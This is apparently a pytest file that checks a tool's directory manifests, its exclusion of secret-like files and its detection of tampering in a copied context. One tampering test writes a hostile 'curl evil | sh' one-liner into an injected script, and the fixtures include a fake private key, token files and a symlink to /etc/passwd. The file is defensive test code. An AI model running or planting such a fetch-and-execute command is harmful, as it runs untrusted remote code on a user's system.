"""Context integrity: the manifest of a real tree (files, symlinks, excluded names, special
files), agreement with what copy_tree copies, and tampering found as missing, changed or extra."""

from __future__ import annotations

import hashlib
import os

import pytest

from nucleus import vocab as v
from nucleus.config.context import Matcher, exclusion_list
from nucleus.effects import fs, integrity

EXCLUDE = Matcher(exclusion_list())


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def tree(tmp_path):
    """A context with files, nested dirs, symlinks (relative, absolute, dangling, to a dir
    outside), excluded names at several depths and a FIFO."""
    root = tmp_path / "ctx"
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "host-file").write_text("not context")
    root.mkdir()
    (root / "README.md").write_bytes(b"hello\n")
    (root / "empty").write_bytes(b"")
    (root / "src").mkdir()
    (root / "src" / "main.py").write_bytes(b"print('hi')\n")
    (root / "src" / "deep").mkdir()
    (root / "src" / "deep" / "data.bin").write_bytes(bytes(range(256)) * 4096)  # 1 MiB
    (root / "emptydir").mkdir()
    os.symlink("src/main.py", root / "link-to-main")
    os.symlink("/etc/passwd", root / "abs-link")
    os.symlink("nowhere", root / "dangling")
    os.symlink(str(outside), root / "outside-dir")
    # excluded: exact names, globs, case-insensitive substrings, nested
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]")
    (root / ".env").write_text("TOKEN=1")
    (root / ".env.local").write_text("TOKEN=2")
    (root / "server.pem").write_text("-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n")
    (root / "src" / "My_Secret.txt").write_text("s")
    (root / "src" / "node_modules").mkdir()
    (root / "src" / "node_modules" / "x.js").write_text("x")
    (root / "Credentials.json").write_text("{}")
    os.mkfifo(root / "src" / "pipe")
    return root


EXPECTED = {
    "README.md": sha(b"hello\n"),
    "empty": sha(b""),
    "src": integrity.DIR,
    "src/main.py": sha(b"print('hi')\n"),
    "src/deep": integrity.DIR,
    "src/deep/data.bin": sha(bytes(range(256)) * 4096),
    "emptydir": integrity.DIR,
    "link-to-main": "symlink:src/main.py",
    "abs-link": "symlink:/etc/passwd",
    "dangling": "symlink:nowhere",
}


def test_manifest_of_a_tree(tree, tmp_path):
    got = integrity.manifest(str(tree), EXCLUDE)
    assert got == {**EXPECTED, "outside-dir": f"symlink:{tmp_path / 'outside'}"}


def test_manifest_from_a_descriptor_leaves_it_open(tree):
    fd = os.open(tree, os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert integrity.manifest(fd, EXCLUDE) == integrity.manifest(tree, EXCLUDE)
        os.fstat(fd)  # still open
    finally:
        os.close(fd)


def test_without_patterns_nothing_is_skipped_but_special_files(tree):
    got = integrity.manifest(tree)
    assert ".git/config" in got and ".env" in got and "src/My_Secret.txt" in got
    assert "src/pipe" not in got


@pytest.mark.parametrize("name", [
    ".git", ".env", ".env.prod", "a.pem", "x.KEY", "credentials", "AWS_CREDENTIALS", "my-secret",
    "id.p12", "kubeconfig.yaml", "private_key.txt", "main.py", "README", "Secretary", "target",
    "key", ".ssh", "notes.swp",
])
def test_exclusion_matches_the_copy(name, tmp_path):
    root = tmp_path / "t"
    root.mkdir()
    (root / name).write_text("x")
    skipped = name not in integrity.manifest(root, EXCLUDE)
    assert skipped is (EXCLUDE.why(name, name, False) is not None)


def test_manifest_of_the_copy_equals_the_source(tree, tmp_path):
    target = tmp_path / "copy"
    target.mkdir()
    fd = os.open(tree, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fs.copy_tree(v.CopyTree(source=str(tree), target=str(target), exclude=exclusion_list(), opened=fd))
    finally:
        os.close(fd)
    expected = integrity.manifest(tree, EXCLUDE)
    actual = integrity.manifest(target, EXCLUDE)
    assert integrity.compare(expected, actual) == ([], [], [])
    assert actual == expected


def test_identical_trees_compare_equal(tree):
    a = integrity.manifest(tree, EXCLUDE)
    assert integrity.compare(a, dict(a)) == ([], [], [])
    assert integrity.mismatch_message([], [], []) == ""


def test_tampering_is_found(tree):
    expected = integrity.manifest(tree, EXCLUDE)
    (tree / "README.md").write_bytes(b"hello!\n")                      # changed content
    os.unlink(tree / "src" / "main.py")                                  # missing
    os.unlink(tree / "link-to-main")
    os.symlink("README.md", tree / "link-to-main")                      # retargeted link
    os.unlink(tree / "dangling")
    (tree / "dangling").write_bytes(b"nowhere")                          # link became a file
    os.rmdir(tree / "emptydir")                                          # missing directory
    (tree / "src" / "deep" / "injected.sh").write_text("curl evil | sh")  # extra
    (tree / "newdir").mkdir()                                            # extra directory
    (tree / ".env").write_text("changed but excluded")                   # not seen
    actual = integrity.manifest(tree, EXCLUDE)
    missing, changed, extra = integrity.compare(expected, actual)
    assert missing == ["emptydir", "src/main.py"]
    assert changed == ["README.md", "dangling", "link-to-main"]
    assert extra == ["newdir", "src/deep/injected.sh"]
    assert integrity.mismatch_message(missing, changed, extra, source="./ctx") == (
        "/context does not match the context './ctx': 2 missing ('emptydir', 'src/main.py'), "
        "3 changed ('README.md', 'dangling', 'link-to-main'), "
        "2 extra ('newdir', 'src/deep/injected.sh')")


def test_message_names_at_most_limit_paths():
    changed = [f"f{i}" for i in range(12)]
    assert integrity.mismatch_message([], changed, [], limit=3) == (
        "/context does not match the context it was copied from: "
        "12 changed ('f0', 'f1', 'f2' and 9 more)")


def test_a_directory_swapped_for_a_symlink_is_not_followed(tree, tmp_path):
    expected = integrity.manifest(tree, EXCLUDE)
    os.rename(tree / "src", tmp_path / "src-moved")
    os.symlink(str(tmp_path / "src-moved"), tree / "src")
    actual = integrity.manifest(tree, EXCLUDE)
    missing, changed, extra = integrity.compare(expected, actual)
    assert changed == ["src"] and actual["src"].startswith("symlink:")
    assert "src/main.py" in missing and extra == []
